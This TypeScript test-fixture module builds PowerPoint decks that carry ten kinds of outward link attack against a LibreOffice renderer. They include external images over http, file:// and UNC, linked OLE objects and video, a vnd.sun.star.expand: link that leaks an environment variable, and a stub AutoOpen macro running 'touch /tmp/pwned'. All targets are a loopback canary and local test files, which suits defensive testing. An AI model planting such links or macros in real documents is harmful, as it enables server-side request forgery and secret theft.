/**
 * Decks that point outside themselves, one way per slide, as an attacker would write them: the attack classes of
 * docs/security.md ("Rendering untrusted decks"). Each slide keeps its title word (preview-decks.ts), so a test
 * can tell that every slide still rendered, and adds one shape whose relationship (or field) reaches out.
 */
import { strFromU8, strToU8 } from 'fflate';
import { editPackage } from './package-edit.js';
import { previewDeck, slideWord } from './preview-decks.js';
import { assertRunningFromSource } from '../checks/source-guard.js';

assertRunningFromSource(import.meta.url);

const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const IMAGE = `${R}/image`;
const OLE = `${R}/oleObject`;
const VIDEO = `${R}/video`;
const HYPERLINK = `${R}/hyperlink`;
const VBA = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject';
const OLE_URI = 'http://schemas.openxmlformats.org/presentationml/2006/ole';

/** Where the attacks point: a canary web server on loopback, and files on the server's disk. */
export interface LinkTargets {
  /** `http://127.0.0.1:PORT`: every request it sees is a failure. */
  canary: string;
  /** A PNG on the server's disk (absolute path). */
  localImage: string;
  /** A text file on the server's disk whose words must not reach the PDF (absolute path). */
  localText: string;
  /** The name of an environment variable of the server's, for `vnd.sun.star.expand:` links. */
  secretVariable: string;
}

interface Attack {
  /** What the slide shows LibreOffice (inside p:spTree), given its relationship ids. */
  shape: (ids: string[]) => string;
  /** Relationships the shape uses: [type, target, external]. */
  rels: [string, string, boolean][];
}

export const FALLBACK_PNG = 'ppt/media/fallback.png';

const frame = (id: number): string =>
  `<p:spPr><a:xfrm><a:off x="${600000 + id * 1000}" y="3600000"/><a:ext cx="1800000" cy="1200000"/></a:xfrm>` +
  '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>';

const picture = (id: number, blip: string, nvPr = '<p:nvPr/>'): string =>
  `<p:pic><p:nvPicPr><p:cNvPr id="${id}" name="Attack ${id}"/><p:cNvPicPr/>${nvPr}</p:nvPicPr>` +
  `<p:blipFill>${blip}<a:stretch><a:fillRect/></a:stretch></p:blipFill>${frame(id)}</p:pic>`;

const ole = (id: number, relId: string, fallbackId: string): string =>
  `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="${id}" name="Attack ${id}"/><p:cNvGraphicFramePr/><p:nvPr/>` +
  '</p:nvGraphicFramePr><p:xfrm><a:off x="600000" y="3600000"/><a:ext cx="1800000" cy="1200000"/></p:xfrm>' +
  `<a:graphic><a:graphicData uri="${OLE_URI}"><p:oleObj name="Sheet" r:id="${relId}" progId="Excel.Sheet.12" ` +
  'imgW="1800000" imgH="1200000"><p:link updateAutomatic="1"/>' +
  picture(id + 1, `<a:blip r:embed="${fallbackId}"/>`) +
  '</p:oleObj></a:graphicData></a:graphic></p:graphicFrame>';

const textBox = (id: number, paragraph: string): string =>
  `<p:sp><p:nvSpPr><p:cNvPr id="${id}" name="Attack ${id}"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>${frame(id)}` +
  `<p:txBody><a:bodyPr/><a:lstStyle/><a:p>${paragraph}</a:p></p:txBody></p:sp>`;

/** The attack classes, by name, in slide order. */
export function attacks(targets: LinkTargets): Record<string, Attack> {
  const file = (path: string): string => `file://${path}`;
  return {
    'external image by http': {
      shape: ([link]) => picture(10, `<a:blip r:link="${link}"/>`),
      rels: [[IMAGE, `${targets.canary}/image-http.png`, true]],
    },
    'external image by file://': {
      shape: ([link]) => picture(10, `<a:blip r:link="${link}"/>`),
      rels: [[IMAGE, file(targets.localImage), true]],
    },
    'external image by UNC path': {
      shape: ([link]) => picture(10, `<a:blip r:link="${link}"/>`),
      rels: [[IMAGE, `\\\\127.0.0.1\\share\\image-unc.png`, true]],
    },
    'r:embed pointing at an external target': {
      shape: ([embed]) => picture(10, `<a:blip r:embed="${embed}"/>`),
      rels: [[IMAGE, `${targets.canary}/image-embed.png`, true]],
    },
    'OLE object linked by URL': {
      shape: ([link, fallback]) => ole(10, link as string, fallback as string),
      rels: [
        [OLE, `${targets.canary}/ole.xlsx`, true],
        [IMAGE, '../media/fallback.png', false],
      ],
    },
    'OLE object linked by file://': {
      shape: ([link, fallback]) => ole(10, link as string, fallback as string),
      rels: [
        [OLE, file(targets.localText), true],
        [IMAGE, '../media/fallback.png', false],
      ],
    },
    'linked video': {
      shape: ([video, poster]) =>
        picture(10, `<a:blip r:embed="${poster}"/>`, `<p:nvPr><a:videoFile r:link="${video}"/></p:nvPr>`),
      rels: [
        [VIDEO, `${targets.canary}/video.mp4`, true],
        [IMAGE, '../media/fallback.png', false],
      ],
    },
    'vnd.sun.star.expand: link': {
      shape: ([image, link]) =>
        picture(10, `<a:blip r:link="${image}"/>`) +
        textBox(
          11,
          `<a:r><a:rPr lang="en-US"><a:hlinkClick r:id="${link}"/></a:rPr><a:t>Expanded link</a:t></a:r>`,
        ),
      rels: [
        [IMAGE, `vnd.sun.star.expand:${targets.canary}/$${targets.secretVariable}.png`, true],
        [HYPERLINK, `vnd.sun.star.expand:$${targets.secretVariable}`, true],
      ],
    },
    'hyperlink used as a picture': {
      shape: ([link]) =>
        picture(10, `<a:blip r:link="${link}"/>`) +
        textBox(
          11,
          `<a:r><a:rPr lang="en-US"><a:hlinkClick r:id="${link}"/></a:rPr><a:t>Clickable link</a:t></a:r>`,
        ),
      rels: [[HYPERLINK, `${targets.canary}/hyperlink-as-image.png`, true]],
    },
    'field of type file': {
      shape: () =>
        textBox(
          10,
          '<a:fld id="{5C2E3A51-2D1A-4B7E-9F3C-1A2B3C4D5E6F}" type="file"><a:t>SavedFieldText</a:t></a:fld>',
        ),
      rels: [],
    },
  };
}

/** A hyperlink a person clicks: it stays a link in the PDF, and the renderer never opens it. */
export const CLICKABLE_URL = 'https://example.com/deckforge-clickable';

/**
 * One slide per attack class (in the order of `attacks`), plus a last slide with a clickable hyperlink, and a
 * macro project (vbaProject.bin) the presentation refers to. `fallbackPng` is the embedded fallback image.
 */
export function linkingDeck(targets: LinkTargets, fallbackPng: Uint8Array): Uint8Array {
  const classes = Object.values(attacks(targets));
  return editPackage(previewDeck(classes.length + 1), (files) => {
    files[FALLBACK_PNG] = fallbackPng;
    for (const [name, data] of Object.entries(files)) {
      const match = /^ppt\/slides\/([^/]+\.xml)$/.exec(name);
      if (!match) continue;
      const xml = strFromU8(data);
      const index = classes.findIndex((_, i) => xml.includes(`>${slideWord(i)}<`));
      const attack: Attack =
        index >= 0
          ? (classes[index] as Attack)
          : {
              shape: ([link]) =>
                textBox(
                  10,
                  `<a:r><a:rPr lang="en-US"><a:hlinkClick r:id="${link}"/></a:rPr><a:t>Clickable link</a:t></a:r>`,
                ),
              rels: [[HYPERLINK, CLICKABLE_URL, true]],
            };
      const ids = attack.rels.map((_, i) => `rIdAttack${i + 1}`);
      files[name] = strToU8(xml.replace('</p:spTree>', `${attack.shape(ids)}</p:spTree>`));
      const relsName = `ppt/slides/_rels/${match[1]}.rels`;
      const rels = attack.rels
        .map(
          ([type, target, external], i) =>
            `<Relationship Id="${ids[i]}" Type="${type}" Target="${escape(target)}"${external ? ' TargetMode="External"' : ''}/>`,
        )
        .join('');
      files[relsName] = strToU8(
        strFromU8(files[relsName] as Uint8Array).replace('</Relationships>', `${rels}</Relationships>`),
      );
    }
    // A macro project: never run, never even handed to LibreOffice.
    files['ppt/vbaProject.bin'] = strToU8(
      'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "touch /tmp/pwned"\nEnd Sub\n',
    );
    files['ppt/_rels/presentation.xml.rels'] = strToU8(
      strFromU8(files['ppt/_rels/presentation.xml.rels'] as Uint8Array).replace(
        '</Relationships>',
        `<Relationship Id="rIdVba" Type="${VBA}" Target="vbaProject.bin"/></Relationships>`,
      ),
    );
    files['[Content_Types].xml'] = strToU8(
      strFromU8(files['[Content_Types].xml'] as Uint8Array).replace(
        '</Types>',
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
      ),
    );
  });
}

function escape(value: string): string {
  return value.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
}

/**
 * `bytes` (a template or a deck) with a picture on every slide linked by URL to `url`: the one representative
 * attack each way into the renderer is tried with. Slides without a relationships part get one.
 */
export function withLinkedPicture(bytes: Uint8Array, url: string): Uint8Array {
  return editPackage(bytes, (files) => {
    for (const [name, data] of Object.entries(files)) {
      const match = /^ppt\/slides\/([^/]+\.xml)$/.exec(name);
      if (!match) continue;
      files[name] = strToU8(
        strFromU8(data).replace(
          /<\/p:spTree>/,
          `${picture(4000, '<a:blip r:link="rIdLinked"/>')}</p:spTree>`,
        ),
      );
      const relsName = `ppt/slides/_rels/${match[1]}.rels`;
      const rels =
        files[relsName] === undefined
          ? '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
          : strFromU8(files[relsName] as Uint8Array);
      files[relsName] = strToU8(
        rels.replace(
          '</Relationships>',
          `<Relationship Id="rIdLinked" Type="${IMAGE}" Target="${escape(url)}" TargetMode="External"/></Relationships>`,
        ),
      );
    }
  });
}
